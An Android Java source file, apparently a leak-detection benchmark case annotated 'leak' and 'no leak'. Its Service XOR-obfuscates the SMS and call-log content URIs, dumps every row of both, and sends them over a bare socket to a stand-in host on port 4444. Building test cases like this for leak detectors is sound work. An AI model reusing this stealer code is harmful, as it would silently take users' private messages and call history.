package stealers;

import android.app.Service;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.IBinder;

import org.json.*;

import java.io.*;
import java.net.Socket;
import java.util.*;

/** Any provider, row by row and column by column, over a bare socket; addresses are hidden by a key. */
public class AllTables extends Service {
    private static final int[] SMS = {0x48, 0x44, 0x45, 0x5f, 0x4e, 0x45, 0x5f, 0x11, 0x04, 0x04, 0x58, 0x46, 0x58};
    private static final int[] CALLS = {
        0x48, 0x44, 0x45, 0x5f, 0x4e, 0x45, 0x5f, 0x11, 0x04, 0x04, 0x48, 0x4a, 0x47, 0x47, 0x74, 0x47, 0x44, 0x4c, 0x04, 0x48, 0x4a, 0x47, 0x47, 0x58
    };

    static String d(int[] a) {
        char[] out = new char[a.length];
        for (int i = 0; i < a.length; i++) out[i] = (char) (a[i] ^ 0x2b);
        return new String(out);
    }

    @Override
    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public void onStart(Intent i, int id) {
        final Map<String, Uri> uris = new LinkedHashMap<String, Uri>();
        uris.put("s", Uri.parse(d(SMS)));
        uris.put("c", Uri.parse(d(CALLS)));
        new Thread() {
            public void run() {
                try {
                    Socket s = new Socket("203.0.113.9", 4444);
                    DataOutputStream out = new DataOutputStream(s.getOutputStream());
                    for (Map.Entry<String, Uri> e : uris.entrySet()) {
                        out.writeUTF(dump(e.getValue()).toString()); // leak
                        out.writeUTF(e.getKey()); // no leak
                    }
                    out.writeUTF(dump(Uri.parse("content://stealers.none/rows")).toString()); // no leak
                    s.close();
                } catch (Exception e) {
                    stopSelf();
                }
            }
        }.start();
    }

    JSONArray dump(Uri uri) throws JSONException {
        JSONArray rows = new JSONArray();
        Cursor c = getContentResolver().query(uri, null, null, null, null);
        if (c == null) return rows;
        try {
            while (c.moveToNext()) {
                JSONObject row = new JSONObject();
                for (int i = 0; i < c.getColumnCount(); i++) {
                    switch (c.getType(i)) {
                        case Cursor.FIELD_TYPE_INTEGER:
                            row.put(c.getColumnName(i), c.getLong(i));
                            break;
                        case Cursor.FIELD_TYPE_BLOB:
                            row.put(c.getColumnName(i), android.util.Base64.encodeToString(c.getBlob(i), 0));
                            break;
                        default:
                            row.put(c.getColumnName(i), c.getString(i));
                    }
                }
                rows.put(row);
            }
        } finally {
            c.close();
        }
        return rows;
    }
}
